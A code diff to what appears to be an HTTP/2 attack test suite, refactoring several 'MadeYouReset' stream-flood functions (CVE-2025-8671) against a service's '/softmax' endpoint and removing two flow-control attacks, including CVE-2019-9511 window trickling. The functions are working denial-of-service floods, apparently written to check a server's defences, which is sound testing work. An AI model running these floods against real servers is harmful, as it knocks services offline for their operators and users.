@@ -14,6 +14,8 @@ attack = register(ATTACKS, "HTTP/2")
 
 # Frames after which an attacker gives up: no defence has stopped it.
 ENOUGH = 100_000
+# What ends a flood of streams to be reset: PROTOCOL_ERROR where more than 100 come before the first resets are sent.
+RESETS = (CALM, PROTOCOL)
 ODD = [stream for stream in range(1, 2 * ENOUGH + 1, 2)]
 
 
@@ -156,27 +158,28 @@ def rapid_reset_of_large_work(service):
 @attack
 def made_you_reset_by_window_overflow(service):
     """CVE-2025-8671: a valid request, then a frame that makes the server reset it."""
-    return flood(service, lambda wire: (
+    return flood(service, codes=RESETS, frames=lambda wire: (
         wire.headers(stream, end=False, path="/softmax") + window(stream, 2**31 - 1) for stream in ODD))
 
 
 @attack
 def made_you_reset_by_empty_window_update(service):
-    return flood(service, codes=(CALM, PROTOCOL), frames=lambda wire: (
+    return flood(service, codes=RESETS, frames=lambda wire: (
         wire.headers(stream, end=False, path="/softmax") + window(stream, 0) for stream in ODD))
 
 
 @attack
 def made_you_reset_by_content_length(service):
     """One byte announced, more sent."""
-    return flood(service, lambda wire: (
+    return flood(service, codes=RESETS, frames=lambda wire: (
         wire.headers(stream, [("content-length", "1")], end=False, path="/softmax") + data(stream, b"[1]", end=True)
         for stream in ODD))
 
 
 @attack
 def made_you_reset_by_fields(service):
-    return flood(service, lambda wire: (wire.headers(stream, [("connection", "x")]) for stream in ODD))
+    return flood(service, codes=RESETS, frames=lambda wire: (
+        wire.headers(stream, [("connection", "x")]) for stream in ODD))
 
 
 @attack
@@ -232,37 +235,6 @@ def dynamic_table_of_gigabytes(service):
         wire.to_the_end()
         assert wire.goaway == COMPRESSION, wire.outcome()
         return wire.outcome()
-
-
-JACOBIAN = b'{"logits":[' + b",".join([b"1"] * 1000) + b"]}"
-
-
-@attack
-def shut_windows_with_large_replies(service):
-    """100 streams of 20 MB each on a connection that never opens a window."""
-    with H2Wire(service, {4: 0}) as wire:
-        for stream in ODD[:100]:
-            wire.send(wire.post(stream, "/jacobian", JACOBIAN))
-        wire.to_the_end(10)
-        assert sum(map(len, wire.content.values())) == 0
-        return f"{len(wire.status)} begun, {len(wire.resets)} reset; {wire.outcome()}"
-
-
-@attack
-def windows_opened_byte_by_byte(service):
-    """CVE-2019-9511: a reply that trickles."""
-    with H2Wire(service, {4: 0}) as wire:
-        wire.gives_window = False
-        for stream in ODD[:50]:
-            wire.send(wire.post(stream, "/jacobian", JACOBIAN))
-        for _ in range(200):
-            if wire.ended or not wire.send(b"".join(window(stream, 1) for stream in ODD[:50])):
-                break
-            wire.read(0.1)
-        wire.until(lambda: False, 3)
-        got = sum(map(len, wire.content.values()))
-        assert wire.ended or wire.goaway == CALM, wire.outcome()
-        return f"{got} bytes of content; {wire.outcome()}"
 
 
 @attack
